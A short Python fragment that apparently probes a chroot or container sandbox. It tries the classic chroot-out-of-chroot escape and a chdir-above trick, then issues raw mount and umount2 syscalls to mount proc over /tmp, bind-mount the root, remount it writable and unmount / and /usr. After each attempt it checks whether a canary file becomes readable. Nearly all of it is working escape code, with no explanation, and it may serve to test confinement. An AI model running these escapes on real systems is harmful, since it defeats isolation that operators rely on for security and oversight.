# The old way out of a changed root, and the namespace file system.
def solve(where):
    def classic():
        os.mkdir("/tmp/cage")
        os.chroot("/tmp/cage")
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return readable(where["canary"])

    attempt("chroot out of chroot", classic)
    attempt("fchdir above", lambda: (os.chdir("/"), os.chdir(".."), readable("." + where["canary"])))
    attempt("mounting over", lambda: call(165, b"proc\0", b"/tmp\0", b"proc\0", 0, 0))
    attempt("bind mount", lambda: call(165, b"/\0", b"/tmp\0", b"\0", 4096 | 16384, 0))
    attempt("remount writable", lambda: call(165, b"none\0", b"/\0", b"\0", 32, 0))
    attempt("unmounting the root", lambda: call(166, b"/\0", 2))
    attempt("unmounting usr", lambda: call(166, b"/usr\0", 2))
    return report()
